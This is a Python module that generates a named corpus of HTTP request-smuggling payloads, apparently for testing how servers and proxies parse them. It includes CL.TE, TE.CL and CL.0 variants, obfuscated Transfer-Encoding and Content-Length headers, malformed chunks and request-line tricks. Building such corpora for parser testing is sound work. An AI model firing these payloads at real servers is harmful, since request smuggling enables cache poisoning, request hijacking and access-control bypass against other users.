"""Requests that two servers may read differently: the known ways to hide one in another."""

from collections.abc import Mapping

_TOP = b"POST /attack HTTP/1.1\r\nHost: h.example\r\n"
HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: h.example\r\nX: "
_WHOLE = b"GET /smuggled HTTP/1.1\r\nHost: h.example\r\n\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n"

_CODINGS = (
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b" Transfer-Encoding: chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding:\x00chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunKed",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: , chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer-Encoding: chunked\r\n ",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n\rTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Transfer-Encoding chunked",
    b"Transfer-Encoding=chunked",
    b"\x00Transfer-Encoding: chunked",
    b"Tra\x00nsfer-Encoding: chunked",
    b"Transfer-Encoding: ch\xc3\xbcnked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
)
_LENGTHS = (
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d, 0",
    b"Content-Length: 0, %d",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: 0%d",
    b"Content-Length: %d\x00",
    b"Content-Length: %d;0",
    b"Content-Length: %d.0",
    b"Content-Length: 0x%x",
    b"Content-Length: 1e%d",
    b"Content-Length: %d 0",
    b"Content-Length : %d",
    b"Content-Length:\x0b%d",
    b"Content-Length\r\n : %d",
    b"Content-Length:\r\n %d",
    b" Content-Length: %d",
    b"X: y\nContent-Length: %d",
    b"X: y\rContent-Length: %d",
    b"Content_Length: %d",
    b"Content-Length: 184467440737095516%d",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"Connection: close, Content-Length\r\nContent-Length: %d",
    b"Expect: 100-continue\r\nContent-Length: %d",
    b"Expect: x 100-continue\r\nContent-Length: %d",
    b"Expect:\r\n 100-continue\r\nContent-Length: %d",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nContent-Length: %d",
)
_CHUNKS = (
    b"1\nx\n0\n\n",
    b"1\r\nx\n0\r\n\r\n",
    b"1\nx\r\n0\r\n\r\n",
    b"0\n\n",
    b"0\r\n\n",
    b"0\n\r\n",
    b"1;\nx\r\n0\r\n\r\n",
    b"2;\nxx\r\n%x\r\n" % len(_WHOLE),
    b"1;a=\nx\r\n0\r\n\r\n",
    b"1;a=b\r\nx\r\n0\r\n\r\n",
    b'1;a="\r\nx\r\n0\r\n\r\n',
    b"1;\x00\r\nx\r\n0\r\n\r\n",
    b"1 \r\nx\r\n0\r\n\r\n",
    b" 1\r\nx\r\n0\r\n\r\n",
    b"\r\n1\r\nx\r\n0\r\n\r\n",
    b"0x1\r\nx\r\n0\r\n\r\n",
    b"+1\r\nx\r\n0\r\n\r\n",
    b"-1\r\nx\r\n0\r\n\r\n",
    b"1_0\r\nx\r\n0\r\n\r\n",
    b"00000000000000000001\r\nx\r\n0\r\n\r\n",
    b"10000000000000001\r\nx\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\nx\r\n0\r\n\r\n",
    b"1\r\rx\r\n0\r\n\r\n",
    b"1\rx\r\n0\r\n\r\n",
    b"1\r\nxx\r\n0\r\n\r\n",
    b"1\r\nxXX0\r\n\r\n",
    b"0\r\nContent-Length: 5\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"0\r\nX: y\n\r\n",
    b"0\r\nX\r\n\r\n",
    b"0\r\n X: y\r\n\r\n",
    b"0\r\nX: y\r\n z\r\n\r\n",
    b"g\r\nx\r\n0\r\n\r\n",
    b"\r\n\r\n",
)
_OTHERS: Mapping[str, bytes] = {
    "body of GET": b"GET /attack HTTP/1.1\r\nHost: h.example\r\nContent-Length: %d\r\n\r\n"
    % len(HIDDEN)
    + HIDDEN,
    "chunks of HTTP/1.0": b"POST /attack HTTP/1.0\r\nHost: h.example\r\nConnection: keep-alive\r\n"
    + _CHUNKED
    + b"\r\n0\r\n\r\n"
    + HIDDEN,
    "no version": b"GET /attack\r\n" + HIDDEN,
    "HTTP/0.9": b"GET /attack HTTP/0.9\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "two versions": b"GET /attack HTTP/1.1 HTTP/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "lower version": b"GET /attack http/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "tabs": b"GET\t/attack\tHTTP/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "target with CR": b"GET /attack\rX HTTP/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "target with LF": b"GET /attack HTTP/1.1\nHost: h.example\n\nGET /smuggled HTTP/1.1\n",
    "encoded line end": b"GET /attack%0d%0aX:%20y HTTP/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "two hosts": b"GET /attack HTTP/1.1\r\nHost: h.example\r\nHost: other\r\n\r\n" + HIDDEN,
    "other target": b"GET http://other/attack HTTP/1.1\r\nHost: h.example\r\n\r\n" + HIDDEN,
    "folded host": b"GET /attack HTTP/1.1\r\nHost:\r\n h.example\r\n\r\n" + HIDDEN,
    "empty lines": b"\r\n\r\n\n\n" + _TOP + b"Content-Length: 0\r\n\r\n",
}


def corpus() -> Mapping[str, bytes]:
    """Every case by its name; `/smuggled` is what a server must not see as a request of its own."""
    cases: dict[str, bytes] = dict(_OTHERS)
    for coding in _CODINGS:
        body = b"0\r\n\r\n" + HIDDEN
        length = b"Content-Length: %d\r\n" % len(body)
        for name, fields in (
            ("CL.TE", length + coding + b"\r\n"),
            ("TE.CL first", coding + b"\r\n" + length),
        ):
            cases[f"{name} {coding!r}"] = _TOP + fields + b"\r\n" + body
        size = b"%x\r\n" % len(_WHOLE)
        short = b"Content-Length: %d\r\n" % len(size)
        body = size + _WHOLE + b"\r\n0\r\n\r\n"
        cases[f"TE.CL {coding!r}"] = _TOP + short + coding + b"\r\n\r\n" + body
        cases[f"TE alone {coding!r}"] = _TOP + coding + b"\r\n\r\n" + body
    for length in _LENGTHS:
        cases[f"CL {length!r}"] = _TOP + length % len(HIDDEN) + b"\r\n\r\n" + HIDDEN
        cases[f"CL.0 {length!r}"] = _TOP + length % len(_WHOLE) + b"\r\n\r\n" + _WHOLE
    for chunks in _CHUNKS:
        cases[f"chunks {chunks!r}"] = _TOP + _CHUNKED + b"\r\n" + chunks + HIDDEN
    return cases
